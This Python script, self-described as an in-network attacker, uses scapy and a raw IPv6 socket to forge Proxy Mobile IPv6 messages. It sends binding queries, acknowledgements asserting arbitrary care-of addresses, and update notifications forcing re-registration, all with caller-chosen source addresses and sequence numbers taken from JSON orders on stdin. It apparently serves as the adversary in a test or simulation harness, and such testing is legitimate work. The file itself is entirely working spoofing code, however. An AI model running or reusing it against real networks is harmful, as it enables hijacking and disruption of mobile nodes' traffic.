"""An attacker inside the network: crafts queries, answers and notifications with scapy.

Run by itself on a node; each line of its input is a JSON object, and is answered by one when what
it asks for has been sent.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
from typing import Any

from scapy.layers import inet6
from scapy.layers.inet6 import MIP6MH_BA, MIP6MH_BU, IPv6, MIP6OptUnknown

MOBILITY = 135
NOTIFICATION, FORCE_REREGISTRATION, ACKNOWLEDGE = 19, 1, 0x8000  # RFC 7077 §4.1
PREFIX, CARE_OF = 22, 3
QUERY, ANSWER = 0x0008, 0x01  # Q, which scapy takes for reserved bits


def octets(address: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6, address)


def option(kind: int, contents: bytes) -> Any:
    return MIP6OptUnknown(otype=kind, odata=contents)


def home(order: dict[str, Any]) -> bytes:
    return bytes([0, 128]) + octets(order["address"])


def query(order: dict[str, Any], sequence: int) -> Any:
    """A Proxy Binding Query."""
    asked = [option(PREFIX, home(order))]
    return MIP6MH_BU(seq=sequence, flags="PA", reserved=QUERY, mhtime=0, options=asked)


def answer(order: dict[str, Any], sequence: int) -> Any:
    """A Proxy Query Acknowledgement."""
    told = [option(PREFIX, home(order)), option(CARE_OF, octets(order["care_of"]))]
    return MIP6MH_BA(status=0, flags="P", res2=ANSWER, seq=sequence, mhtime=900, options=told)


def notification(order: dict[str, Any], sequence: int) -> bytes:
    """An Update Notification, which scapy does not know; its checksum is still missing."""
    body = struct.pack("!HHH", sequence, FORCE_REREGISTRATION, ACKNOWLEDGE)
    about = bytes([PREFIX, 18]) + home(order)
    size = (6 + len(body) + len(about)) // 8 - 1
    return bytes([59, size, NOTIFICATION, 0, 0, 0]) + body + about


MESSAGES = {"query": query, "answer": answer, "notification": notification}


def packets(order: dict[str, Any]) -> list[bytes]:
    """What an order asks for: one message for each of its ``sequences``."""
    header = IPv6(src=order["source"], dst=order["destination"], nh=MOBILITY)
    found = []
    for sequence in order["sequences"]:
        message = MESSAGES[order["do"]](order, sequence)
        if isinstance(message, bytes):
            checksum = inet6.in6_chksum(MOBILITY, header, message)
            message = message[:4] + struct.pack("!H", checksum) + message[6:]
        found.append(bytes(header / message))
    return found


def main() -> None:
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        made = packets(json.loads(line))
        for packet in made:
            raw.sendto(packet, (socket.inet_ntop(socket.AF_INET6, packet[24:40]), 0))
        print(json.dumps({"sent": len(made)}), flush=True)


main()
